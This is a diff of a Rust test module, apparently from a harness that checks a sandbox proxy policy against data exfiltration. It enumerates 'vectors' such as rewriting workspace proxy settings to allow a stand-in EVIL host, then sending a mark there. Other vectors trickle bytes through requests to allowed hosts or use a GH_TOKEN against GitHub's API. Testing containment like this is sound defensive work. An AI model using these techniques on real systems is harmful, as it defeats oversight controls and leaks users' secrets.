@@ -1,16 +1,15 @@
 //! Getting data out through what is allowed: what counts is that the mark arrives, or that the real secret is told.
 
-use crate::dial::{self, any_of, get, https, request};
+use super::get_by_settings;
+use crate::dial::{self, any_of, get, github, https, request, variable};
 use crate::rig::{API, EVIL, KEY, OK, PROXY, estate};
 use crate::scene::Scene;
 use crate::vector::Evidence::{Arrived, Done, Got, Left};
 use crate::vector::Group::Channels;
-use crate::vector::{Attacked, Evidence, Stop, Tried, Vector, held, untried};
+use crate::vector::{Attacked, SEEN, Stop, Tried, Vector, held, untried};
 use standin_policy::catalogue::Catalogue;
 use std::io::Read;
 use std::os::unix::net::UnixStream;
-
-const SEEN: Evidence = Arrived("");
 
 /// Vectors 48 to 68.
 pub(super) const VECTORS: &[Vector] = &[
@@ -100,14 +99,8 @@ pub(super) const VECTORS: &[Vector] = &[
     }),
     held(64, Channels, "the proxy's own administration", Done, administration),
     held(65, Channels, "settings of the proxy in the workspace", SEEN, |scene, mark| {
-        let allow = format!("[[allow]]\nhosts = [\"{EVIL}\"]\nports = [80]\n");
-        for name in [".standin.toml", "standin.toml", ".config/standin/config.toml"] {
-            let path = scene.host("workspace").join(name);
-            let directory = path.parent().map_or(Ok(()), std::fs::create_dir_all);
-            // Where it cannot be written, it is not; what counts is what is let through afterwards.
-            directory.and_then(|()| std::fs::write(&path, &allow)).ok();
-        }
-        get(EVIL, 80, &format!("/{mark}"))
+        let names = [".standin.toml", "standin.toml", ".config/standin/config.toml"];
+        get_by_settings(names.map(|name| scene.host("workspace").join(name)), mark)
     }),
     held(66, Channels, "a byte in each request to an allowed host", Arrived("slow/"), |_, mark| {
         let parts = mark.as_bytes().chunks(8).enumerate();
@@ -132,17 +125,6 @@ pub(super) const VECTORS: &[Vector] = &[
         },
     ),
 ];
-
-/// What the environment holds: outside the real key, inside its stand-in.
-fn variable(name: &str) -> Result<String, Stop> {
-    std::env::var(name).map_err(|_| Stop::Untried(format!("{name} is not set")))
-}
-
-/// As the user's own tools ask GitHub.
-fn github(method: &str, path: &str, body: &str) -> Tried {
-    let token = format!("Bearer {}", variable("GH_TOKEN")?);
-    https(method, "api.github.com", path, &[("authorization", &token)], body)
-}
 
 /// A host of each of three registries of packages.
 fn registries() -> impl Iterator<Item = String> {
